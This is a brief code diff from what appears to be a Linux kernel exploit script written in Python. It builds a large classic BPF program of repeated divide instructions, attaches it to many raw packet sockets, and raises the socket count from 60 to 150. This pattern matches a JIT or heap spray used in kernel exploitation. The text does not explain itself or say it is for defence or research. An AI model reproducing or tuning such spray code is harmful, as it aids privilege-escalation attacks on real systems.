@@ -101,7 +101,7 @@ fcntl.ioctl(sender, 0x8914, struct.pack('16sh14x', b'lo', 1))
 code = b''.join(struct.pack('HBBI', 0x34, 0, 0, 3) for _ in range(4000)) + struct.pack('HBBI', 6, 0, 0, 0)
 code = ctypes.create_string_buffer(code, len(code))
 taps = []
-for _ in range(60):
+for _ in range(150):
     tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
     tap.setsockopt(263, 23, 1)
     tap.setsockopt(socket.SOL_SOCKET, 26, struct.pack('HxxxxxxP', 4001, ctypes.addressof(code)))
